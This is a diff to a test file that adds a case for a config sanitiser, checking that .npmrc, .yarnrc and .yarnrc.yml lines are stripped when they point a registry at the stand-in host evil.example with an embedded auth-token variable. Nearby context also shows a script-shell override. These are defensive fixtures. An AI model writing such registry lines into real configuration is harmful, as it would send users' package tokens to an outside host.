@@ -236,6 +236,18 @@ describe("settings that a copy gets", () => {
   it(".npmrc with lone carriage returns hides nothing", () => {
     expect(clean(".npmrc", "save-exact=true\rscript-shell=./x\r")).toBe("save-exact=true\n")
   })
+  it("no address with a variable, which would take a token of this machine to another host", () => {
+    const npm = [
+      "registry=https://evil.example/\u0024{CARGO_REGISTRIES_A_TOKEN}/",
+      '@acme:registry="https://evil.example/\\u0024{YARN_NPM_AUTH_TOKEN}/"',
+      "//registry.example/:_authToken=\u0024{NPM_TOKEN}",
+    ]
+    expect(clean(".npmrc", `${npm.join("\n")}\nsave-exact=true\n`)).toBe("save-exact=true\n")
+    expect(clean(".yarnrc", 'registry "https://evil.example/\u0024{X}"\n')).toBe("")
+    const scope = 'npmRegistryServer: https://registry.example\n    npmAuthToken: "\\x24{TOKEN}"'
+    const yarn = `npmRegistryServer: "https://evil.example/\${X-}"\nnpmScopes:\n  acme:\n    ${scope}\n`
+    expect(clean(".yarnrc.yml", yarn)).toBe("npmScopes:\n  acme:\n    npmRegistryServer: https://registry.example\n")
+  })
   it("leaves other files as they are", () => {
     expect(clean("src/config.toml", "[build]")).toBeUndefined()
     expect(clean("package.json", "{}")).toBeUndefined()
